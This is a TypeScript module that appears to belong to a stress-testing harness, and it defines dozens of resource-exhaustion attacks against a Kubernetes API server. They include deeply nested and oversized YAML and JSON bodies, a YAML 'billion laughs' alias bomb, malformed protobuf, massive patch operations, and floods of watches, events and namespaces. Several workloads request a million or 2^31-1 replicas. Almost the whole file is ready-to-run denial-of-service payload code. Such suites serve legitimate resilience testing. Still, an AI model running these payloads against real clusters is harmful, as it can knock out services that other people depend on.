import { call, exchange, inParallel, openWatch } from './api-client.ts';
import type { LoopAttack, Target } from './attack.ts';

const namespaces = '/api/v1/namespaces';
const inDefault = `${namespaces}/default`;
const configMaps = `${inDefault}/configmaps`;
const deployments = '/apis/apps/v1/namespaces/default/deployments';
const bodyLimit = 3 * 1024 * 1024;
const yaml = 'application/yaml';

const times = (count: number, scale: number) => Math.max(1, Math.round(count * scale));
const lines = (count: number, line: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => line(index)).join('\n');

function post(target: Target, body: string, type?: string): Promise<number> {
  return call(target, {
    method: 'POST',
    path: configMaps,
    body: body.slice(0, bodyLimit),
    ...(type ? { type } : {}),
  });
}

const yamlBodies: Record<string, (scale: number) => string> = {
  'yaml-keys': (scale) => lines(times(250_000, scale), (index) => `k${index}: v`),
  'yaml-sequence': (scale) => lines(times(600_000, scale), () => '- v'),
  'yaml-flow-map': (scale) => `{${lines(times(150_000, scale), (index) => `k${index}: v,`)}}`,
  'yaml-flow-sequence': (scale) => `[${'v,'.repeat(times(700_000, scale))}]`,
  'yaml-flow-nesting': (scale) => '['.repeat(times(1_000_000, scale)),
  'yaml-flow-closed-nesting': (scale) => `${'['.repeat(times(5000, scale))}${']'.repeat(times(5000, scale))}`,
  'yaml-nested-sequences': (scale) => `${'- '.repeat(times(500_000, scale))}v`,
  'yaml-nested-maps': (scale) => lines(times(2000, scale), (index) => `${' '.repeat(index)}k:`),
  'yaml-aliases': (scale) => `a: &a [v]\n${lines(times(200_000, scale), (index) => `k${index}: *a`)}`,
  'yaml-billion-laughs': () =>
    `a0: &a0 [v,v,v,v,v,v,v,v,v]\n${lines(9, (index) => `a${index + 1}: &a${index + 1} [${`*a${index},`.repeat(9)}]`)}`,
  'yaml-anchors': (scale) => lines(times(150_000, scale), (index) => `k${index}: &a${index} v`),
  'yaml-merge-keys': (scale) =>
    `a: &a {k: v}\n${lines(times(100_000, scale), (index) => `b${index}: {<<: *a}`)}`,
  'yaml-documents': (scale) => lines(times(300_000, scale), (index) => `---\nk${index}: v`),
  'yaml-comments': (scale) => lines(times(1_000_000, scale), () => '#'),
  'yaml-spaces': (scale) => ' '.repeat(times(bodyLimit, scale)),
  'yaml-blank-lines': (scale) => '\n'.repeat(times(bodyLimit, scale)),
  'yaml-block-scalar': (scale) => `data:\n  k: |\n${lines(times(400_000, scale), () => '    v')}`,
  'yaml-quoted-escapes': (scale) => `k: "${'\\n'.repeat(times(1_400_000, scale))}"`,
  'yaml-plain-scalar': (scale) => `k: ${'v '.repeat(times(1_500_000, scale))}`,
  'yaml-complex-keys': (scale) => lines(times(200_000, scale), (index) => `? [k${index}]\n: v`),
  'yaml-colons': (scale) => ':'.repeat(times(bodyLimit, scale)),
  'yaml-tags': (scale) => lines(times(150_000, scale), (index) => `k${index}: !!str v`),
  'yaml-directives': (scale) => lines(times(200_000, scale), (index) => `%TAG !e${index}! tag:x,2000:`),
};

const jsonBodies: Record<string, (scale: number) => string> = {
  'json-nesting': (scale) => `${'['.repeat(times(1_500_000, scale))}${']'.repeat(times(1_500_000, scale))}`,
  'json-object-nesting': (scale) =>
    `${'{"a":'.repeat(times(400_000, scale))}1${'}'.repeat(times(400_000, scale))}`,
  'json-empty-arrays': (scale) => `{"data":[${'[],'.repeat(times(1_000_000, scale))}[]]}`,
  'json-keys': (scale) =>
    `{${Array.from({ length: times(200_000, scale) }, (_, index) => `"k${index}":"v"`).join(',')}}`,
  'json-config-map-keys': (scale) =>
    `{"metadata":{"name":"attack-keys"},"data":{${Array.from({ length: times(150_000, scale) }, (_, index) => `"k${index}":"v"`).join(',')}}}`,
  'json-labels': (scale) =>
    `{"metadata":{"name":"attack-labels","labels":{${Array.from({ length: times(100_000, scale) }, (_, index) => `"k${index}":"v"`).join(',')}}}}`,
  'json-long-label-key': (scale) =>
    `{"metadata":{"name":"attack-label","labels":{"${'a-'.repeat(times(1_000_000, scale))}!":"v"}}}`,
  'json-long-name': (scale) => `{"metadata":{"name":"${'a-.'.repeat(times(900_000, scale))}!"}}`,
  'json-finalizers': (scale) =>
    `{"metadata":{"name":"attack-finalizers","finalizers":[${'"a/b",'.repeat(times(300_000, scale))}"a/b"]}}`,
  'json-unknown-fields': (scale) =>
    `{"metadata":{"name":"attack-unknown"},${Array.from({ length: times(150_000, scale) }, (_, index) => `"u${index}":1`).join(',')}}`,
  'json-escapes': (scale) => `{"metadata":{"name":"${'\\u0041'.repeat(times(500_000, scale))}"}}`,
  'json-large-value': (scale) =>
    `{"metadata":{"name":"attack-value"},"data":{"k":"${'v'.repeat(times(3_000_000, scale))}"}}`,
};

function bodyAttacks(bodies: Record<string, (scale: number) => string>, type?: string): LoopAttack[] {
  return Object.entries(bodies).map(([name, body]) => ({
    name,
    async run(target, scale) {
      const text = body(scale);
      await Promise.all([post(target, text, type), post(target, text, type)]);
      await clean(target);
    },
  }));
}

const names = ['keys', 'labels', 'label', 'finalizers', 'unknown', 'value', 'patched'];

async function clean(target: Target): Promise<void> {
  for (const name of names) {
    const path = `${configMaps}/attack-${name}`;
    const { status } = await exchange(target, { method: 'DELETE', path });
    if (status !== 200) continue;
    const patch = '{"metadata":{"finalizers":null}}';
    await call(target, { method: 'PATCH', path, body: patch, type: 'application/merge-patch+json' });
  }
}

const container = { name: 'c', image: 'confluentinc/cp-kafka:7.3.5', command: ['sleep', '999'] };

function workload(kind: string, replicas: number, more: object = {}): string {
  const labels = { app: 'attack' };
  return JSON.stringify({
    apiVersion: 'apps/v1',
    kind,
    metadata: { name: 'attack', labels },
    spec: {
      replicas,
      selector: { matchLabels: labels },
      ...(kind === 'StatefulSet' ? { serviceName: 'attack' } : {}),
      ...more,
      template: { metadata: { labels }, spec: { terminationGracePeriodSeconds: 0, containers: [container] } },
    },
  });
}

/** Deletes the workloads and waits until their pods are gone, within two minutes. */
async function removeWorkloads(target: Target): Promise<void> {
  for (const plural of ['deployments', 'statefulsets', 'replicasets'])
    await call(target, {
      method: 'DELETE',
      path: `/apis/apps/v1/namespaces/default/${plural}?labelSelector=app%3Dattack`,
    });
  await call(target, {
    method: 'DELETE',
    path: `${inDefault}/pods?labelSelector=app%3Dattack&gracePeriodSeconds=0`,
  });
  for (let tries = 0; tries < 240; tries++) {
    const { status, text } = await exchange(target, {
      path: `${inDefault}/pods?labelSelector=app%3Dattack&limit=1`,
    });
    if (status === 200 && /"items":\[\]/.test(text)) return;
    await new Promise((resolve) => setTimeout(resolve, 500));
  }
}

function workloadAttack(
  name: string,
  kind: string,
  replicas: (scale: number) => number,
  more: object = {},
): LoopAttack {
  return {
    name,
    async run(target, scale) {
      const path = `/apis/apps/v1/namespaces/default/${kind.toLowerCase()}s`;
      await call(target, { method: 'POST', path, body: workload(kind, replicas(scale), more) });
      await new Promise((resolve) => setTimeout(resolve, 4000 * Math.min(1, scale) + 500));
      await call(target, { path: '/api/v1/pods', accept: 'application/json;as=Table;v=v1;g=meta.k8s.io' });
      await removeWorkloads(target);
    },
  };
}

const workloadAttacks: LoopAttack[] = [
  workloadAttack('deployment-of-thousands', 'Deployment', (scale) => times(2000, scale)),
  workloadAttack('deployment-of-a-million', 'Deployment', () => 1_000_000),
  workloadAttack('deployment-of-two-thousand-million', 'Deployment', () => 2 ** 31 - 1),
  workloadAttack('replica-set-of-a-million', 'ReplicaSet', () => 1_000_000),
  workloadAttack('stateful-set-of-a-million', 'StatefulSet', () => 1_000_000),
  workloadAttack('parallel-stateful-set-of-a-million', 'StatefulSet', () => 1_000_000, {
    podManagementPolicy: 'Parallel',
  }),
  {
    name: 'patched-to-a-million-and-back',
    async run(target) {
      await call(target, { method: 'POST', path: deployments, body: workload('Deployment', 0) });
      for (const replicas of [1_000_000, 0, 1_000_000, 3, 0])
        await call(target, {
          method: 'PATCH',
          path: `${deployments}/attack`,
          body: JSON.stringify({ spec: { replicas } }),
          type: 'application/merge-patch+json',
        });
      await removeWorkloads(target);
    },
  },
  {
    name: 'many-replica-sets',
    async run(target, scale) {
      await inParallel(times(300, scale), 8, (index) =>
        call(target, {
          method: 'POST',
          path: '/apis/apps/v1/namespaces/default/replicasets',
          body: workload('ReplicaSet', 1000)
            .replace('"name":"attack"', `"name":"attack-${index}"`)
            .replaceAll('"app":"attack"', `"app":"attack","n":"${index}"`),
        }),
      );
      await removeWorkloads(target);
    },
  },
];

async function createMany(target: Target, count: number, namespace = 'default'): Promise<void> {
  await inParallel(count, 16, (index) =>
    call(target, {
      method: 'POST',
      path: `${namespaces}/${namespace}/configmaps`,
      body: JSON.stringify({
        metadata: { name: `many-${index}`, labels: { many: 'yes' } },
        data: { key: 'v'.repeat(500) },
      }),
    }),
  );
}

const removeMany = (target: Target) =>
  call(target, { method: 'DELETE', path: `${configMaps}?labelSelector=many%3Dyes` });

const listAttacks: LoopAttack[] = [
  {
    name: 'lists-of-thousands',
    async run(target, scale) {
      await createMany(target, times(3000, scale));
      for (const accept of [
        'application/json',
        'application/json;as=Table;v=v1;g=meta.k8s.io',
        'application/json;as=PartialObjectMetadataList;v=v1;g=meta.k8s.io',
        yaml,
      ])
        await Promise.all(Array.from({ length: 4 }, () => call(target, { path: configMaps, accept })));
      const watches = await Promise.all(
        Array.from({ length: times(200, scale) }, () => openWatch(target, `${configMaps}?watch=1`)),
      );
      await createMany(target, times(20, scale));
      for (const watch of watches) watch.close();
      await removeMany(target);
    },
  },
  {
    name: 'watches',
    async run(target, scale) {
      const watches = await Promise.all(
        Array.from({ length: times(1000, scale) }, () => openWatch(target, `${configMaps}?watch=1`)),
      );
      for (let round = 0; round < 20; round++)
        await call(target, {
          method: round === 0 ? 'POST' : 'PUT',
          path: round === 0 ? configMaps : `${configMaps}/attack-value`,
          body: JSON.stringify({
            metadata: { name: 'attack-value' },
            data: { key: `${round}`.repeat(times(50_000, scale)) },
          }),
        });
      for (const watch of watches) watch.close();
      await clean(target);
    },
  },
  {
    name: 'selectors',
    async run(target, scale) {
      await createMany(target, times(500, scale));
      const values = `many in (${Array.from({ length: 3000 }, (_, index) => index).join(',')})`;
      const queries = [
        `labelSelector=${encodeURIComponent(values)}`,
        `labelSelector=${encodeURIComponent(Array.from({ length: 1500 }, () => 'many').join(','))}`,
        `labelSelector=${encodeURIComponent(`${'a-'.repeat(5000)}!`)}`,
        `fieldSelector=${encodeURIComponent(Array.from({ length: 500 }, () => 'metadata.name!=x').join(','))}`,
        `fieldSelector=${encodeURIComponent('a.'.repeat(7000))}`,
        `continue=${'A'.repeat(12_000)}`,
      ];
      for (const query of queries) await call(target, { path: `${configMaps}?${query}` });
      await removeMany(target);
    },
  },
  {
    name: 'namespaces-with-content',
    async run(target, scale) {
      const count = times(20, scale);
      const name = (index: number) => `attack-${index}`;
      await inParallel(count, 4, async (index) => {
        await call(target, {
          method: 'POST',
          path: namespaces,
          body: JSON.stringify({ metadata: { name: name(index) } }),
        });
        await createMany(target, times(100, scale), name(index));
      });
      await inParallel(count, 8, (index) =>
        call(target, { method: 'DELETE', path: `${namespaces}/${name(index)}` }),
      );
    },
  },
  {
    name: 'services-and-endpoints',
    async run(target, scale) {
      const count = times(500, scale);
      await inParallel(count, 16, (index) =>
        call(target, {
          method: 'POST',
          path: `${inDefault}/services`,
          body: JSON.stringify({
            metadata: { name: `many-${index}`, labels: { many: 'yes' } },
            spec: { selector: { app: 'attack' }, ports: [{ port: 80 }] },
          }),
        }),
      );
      await call(target, {
        method: 'POST',
        path: deployments,
        body: workload('Deployment', times(60, scale)),
      });
      await new Promise((resolve) => setTimeout(resolve, 3000));
      await removeWorkloads(target);
      await inParallel(count, 16, (index) =>
        call(target, { method: 'DELETE', path: `${inDefault}/services/many-${index}` }),
      );
    },
  },
  {
    name: 'events-flood',
    async run(target, scale) {
      await inParallel(times(3000, scale), 16, (index) =>
        call(target, {
          method: 'POST',
          path: `${inDefault}/events`,
          body: JSON.stringify({
            metadata: { name: `attack.${index}`, labels: { many: 'yes' } },
            involvedObject: { kind: 'Pod', name: 'attack', namespace: 'default' },
            reason: 'Attack',
            message: 'm'.repeat(500),
          }),
        }),
      );
      await call(target, {
        path: `${inDefault}/events`,
        accept: 'application/json;as=Table;v=v1;g=meta.k8s.io',
      });
      await call(target, { method: 'DELETE', path: `${inDefault}/events?labelSelector=many%3Dyes` });
    },
  },
];

const patches: Record<string, (scale: number) => [type: string, body: string]> = {
  'json-patch-operations': (scale) => [
    'application/json-patch+json',
    JSON.stringify(
      Array.from({ length: times(10_000, scale) }, () => ({
        op: 'add',
        path: '/metadata/finalizers/0',
        value: 'a/b',
      })),
    ),
  ],
  'json-patch-copies': (scale) => [
    'application/json-patch+json',
    JSON.stringify(
      Array.from({ length: times(10_000, scale) }, () => ({ op: 'copy', from: '/data', path: '/data/k' })),
    ),
  ],
  'json-patch-tests': (scale) => [
    'application/json-patch+json',
    JSON.stringify(Array.from({ length: times(10_000, scale) }, () => ({ op: 'test', path: '', value: {} }))),
  ],
  'json-patch-long-path': (scale) => [
    'application/json-patch+json',
    JSON.stringify([{ op: 'add', path: '/a'.repeat(times(1_000_000, scale)), value: 1 }]),
  ],
  'merge-patch-keys': (scale) => [
    'application/merge-patch+json',
    `{"data":{${Array.from({ length: times(150_000, scale) }, (_, index) => `"k${index}":"v"`).join(',')}}}`,
  ],
  'strategic-finalizers': (scale) => [
    'application/strategic-merge-patch+json',
    `{"metadata":{"finalizers":[${Array.from({ length: times(100_000, scale) }, (_, index) => `"a/b${index}"`).join(',')}]}}`,
  ],
  'strategic-order': (scale) => {
    const list = Array.from({ length: times(50_000, scale) }, (_, index) => `"a/b${index}"`);
    return [
      'application/strategic-merge-patch+json',
      `{"metadata":{"finalizers":[${list.join(',')}],"$setElementOrder/finalizers":[${list.reverse().join(',')}]}}`,
    ];
  },
  'strategic-deletions': (scale) => {
    const list = Array.from({ length: times(50_000, scale) }, (_, index) => `"a/b${index}"`);
    return [
      'application/strategic-merge-patch+json',
      `{"metadata":{"finalizers":[${list.join(',')}],"$deleteFromPrimitiveList/finalizers":[${list.reverse().join(',')}]}}`,
    ];
  },
  'strategic-owners': (scale) => [
    'application/strategic-merge-patch+json',
    `{"metadata":{"ownerReferences":[${Array.from({ length: times(40_000, scale) }, (_, index) => `{"apiVersion":"v1","kind":"Pod","name":"p","uid":"${index}"}`).join(',')}]}}`,
  ],
};

const patchAttacks: LoopAttack[] = Object.entries(patches).map(([name, patch]) => ({
  name,
  async run(target, scale) {
    const path = `${configMaps}/attack-patched`;
    const finalizers = ['a/a'];
    await post(
      target,
      JSON.stringify({ metadata: { name: 'attack-patched', finalizers }, data: { k: 'v' } }),
    );
    const [type, body] = patch(scale);
    await call(target, { method: 'PATCH', path, body: body.slice(0, bodyLimit), type });
    await clean(target);
  },
}));

const protobuf: LoopAttack = {
  name: 'protobuf-bodies',
  async run(target, scale) {
    const magic = Buffer.from('k8s\0');
    const nested = Buffer.alloc(times(1_500_000, scale), 0x0b);
    const delimited = Buffer.alloc(times(3_000_000, scale), 0);
    for (let at = 0; at + 1 < delimited.length; at += 2) delimited[at] = 0x0a;
    for (const body of [nested, delimited])
      await call(target, {
        method: 'DELETE',
        path: `${configMaps}/attack-none`,
        body: Buffer.concat([magic, body]),
        type: 'application/vnd.kubernetes.protobuf',
      });
  },
};

/** Bodies, patches, lists, watches and workloads. */
export const kubernetesAttacks: readonly LoopAttack[] = [
  ...bodyAttacks(yamlBodies, yaml),
  ...bodyAttacks(jsonBodies),
  ...patchAttacks,
  protobuf,
  ...listAttacks,
  ...workloadAttacks,
];
